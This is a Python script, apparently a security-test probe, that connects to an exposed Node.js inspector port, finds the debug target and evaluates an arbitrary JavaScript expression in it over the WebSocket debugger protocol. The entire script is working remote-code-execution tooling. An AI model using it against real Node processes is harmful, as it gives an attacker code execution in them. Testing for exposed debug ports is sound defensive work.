"""What a local attacker does with a Node.js inspector port: find the target on
HOST:PORT (/json/list), open its WebSocket and evaluate an expression in it (stdlib only).

usage: inspector_probe.py HOST PORT EXPRESSION
Prints one JSON line: {"connected": false, "error": ...} when nothing listens, else
{"connected": true, "result": <value of EXPRESSION in the target>}.
"""
import base64
import json
import os
import socket
import struct
import sys


def http_get(host, port, path):
    s = socket.create_connection((host, port), timeout=3)
    s.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n".encode())
    data = b""
    while b"\r\n\r\n" not in data:
        data += s.recv(65536)
    head, body = data.split(b"\r\n\r\n", 1)
    length = next(int(l.split(b":")[1]) for l in head.split(b"\r\n") if l.lower().startswith(b"content-length:"))
    while len(body) < length:
        body += s.recv(65536)
    s.close()
    return body


def ws_eval(host, port, path, expression):
    s = socket.create_connection((host, port), timeout=5)
    key = base64.b64encode(os.urandom(16)).decode()
    s.sendall(
        (
            f"GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n"
        ).encode()
    )
    head = b""
    while b"\r\n\r\n" not in head:
        head += s.recv(1)
    if b" 101 " not in head.split(b"\r\n", 1)[0]:
        raise RuntimeError("no websocket upgrade: " + head.split(b"\r\n", 1)[0].decode())
    msg = json.dumps({"id": 1, "method": "Runtime.evaluate", "params": {"expression": expression, "returnByValue": True}}).encode()
    mask = os.urandom(4)
    frame = bytes([0x81]) + (bytes([0x80 | len(msg)]) if len(msg) < 126 else bytes([0x80 | 126]) + struct.pack(">H", len(msg)))
    s.sendall(frame + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(msg)))

    def read(n):
        out = b""
        while len(out) < n:
            c = s.recv(n - len(out))
            if not c:
                raise RuntimeError("connection closed")
            out += c
        return out

    while True:
        b0, b1 = read(2)
        n = b1 & 0x7F
        if n == 126:
            n = struct.unpack(">H", read(2))[0]
        elif n == 127:
            n = struct.unpack(">Q", read(8))[0]
        payload = read(n)
        if b0 & 0x0F != 1:
            continue
        reply = json.loads(payload)
        if reply.get("id") == 1:
            return reply["result"]["result"].get("value")


def main():
    host, port, expression = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    try:
        targets = json.loads(http_get(host, port, "/json/list"))
    except OSError as e:
        print(json.dumps({"connected": False, "error": type(e).__name__ + ": " + str(e)}))
        return
    url = targets[0]["webSocketDebuggerUrl"]
    path = "/" + url.split("/", 3)[3]
    print(json.dumps({"connected": True, "uid": os.getuid(), "result": ws_eval(host, port, path, expression)}))


main()
